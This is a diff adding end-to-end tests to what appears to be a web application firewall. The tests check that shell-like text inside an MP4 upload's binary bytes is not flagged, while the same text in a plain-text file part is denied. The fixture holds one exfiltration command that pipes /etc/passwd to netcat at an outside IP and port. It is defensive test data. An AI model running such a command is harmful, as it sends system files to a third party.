@@ -105,3 +105,51 @@ def test_internal_url_where_the_server_fetches_is_still_denied(enforce_envoy, pa
 def test_attack_in_a_header_is_still_denied(enforce_envoy, headers):
     resp = enforce_envoy.request("GET", "/api/users/2", headers=headers)
     assert_problem_json_403(resp)
+
+
+def _upload(filename: str, ctype: str, content: bytes) -> tuple[bytes, dict]:
+    """A browser-style presigned upload: form fields first, then the file part."""
+    b = b"apiwardE2eBoundary7MA4YWxk"
+    fields = b"".join(
+        b"--" + b + b'\r\nContent-Disposition: form-data; name="' + k + b'"\r\n\r\n' + v + b"\r\n"
+        for k, v in [
+            (b"acl", b"private"),
+            (b"key", b"uploads/clip-2041"),
+            (b"policy", b"eyJleHBpcmF0aW9uIjogIjIwMzAtMDEtMDFUMDA6MDA6MDBaIn0=" * 24),
+        ]
+    )
+    part = (
+        b"--" + b + b'\r\nContent-Disposition: form-data; name="file"; filename="'
+        + filename.encode() + b'"\r\nContent-Type: ' + ctype.encode() + b"\r\n\r\n"
+    )
+    body = fields + part + content + b"\r\n--" + b + b"--\r\n"
+    return body, {"content-type": "multipart/form-data; boundary=" + b.decode()}
+
+
+# The same shell text as a text file (scored, denied) and inside an MP4's bytes (binary around it,
+# fewer than 10 % control bytes: the part is not text and is not scored; its name and file name
+# are). A recorded video upload (x264 writes its options, `ref=3 deblock=1:-3:-3 ...`, into the
+# file) was denied as cmdi at multipart:file before the parser counted a part's invalid UTF-8,
+# already U+FFFD after the body's lossy decoding, as binary.
+SHELL_TEXT = b"thanks; cat /etc/passwd | nc 203.0.113.9 4444"
+VIDEO = (
+    b"\x00\x00\x00 ftypisom\x00\x00\x02\x00isomiso2avc1mp41\x00\x00\x00\x08free"
+    + b"\xb7\xff\xe9E\xe6\xd9H\xb7\x96,\xd8 \xd9#\xee\xefx" * 16
+    + b"x264 - options: cabac=1 ref=3 deblock=1:-3:-3 analyse=0x3:0x113 me=hex "
+    + SHELL_TEXT
+    + b"\x8d\xfe\x03\xc1\xff\xee" * 64
+)
+
+
+def test_a_binary_file_part_is_not_scored_as_text(enforce_envoy):
+    body, headers = _upload("clip.mp4", "video/mp4", VIDEO)
+    resp = enforce_envoy.request("POST", "/api/comments", body=body, headers=headers)
+    assert resp.status == 201, (resp.status, resp.body[:300])  # the example API created it
+    ann = assert_annotated(resp, mode="enforce")
+    assert ann["action"] != "deny", ann
+
+
+def test_the_same_text_in_a_text_file_part_is_denied(enforce_envoy):
+    body, headers = _upload("notes.txt", "text/plain", SHELL_TEXT)
+    resp = enforce_envoy.request("POST", "/api/comments", body=body, headers=headers)
+    assert_problem_json_403(resp)
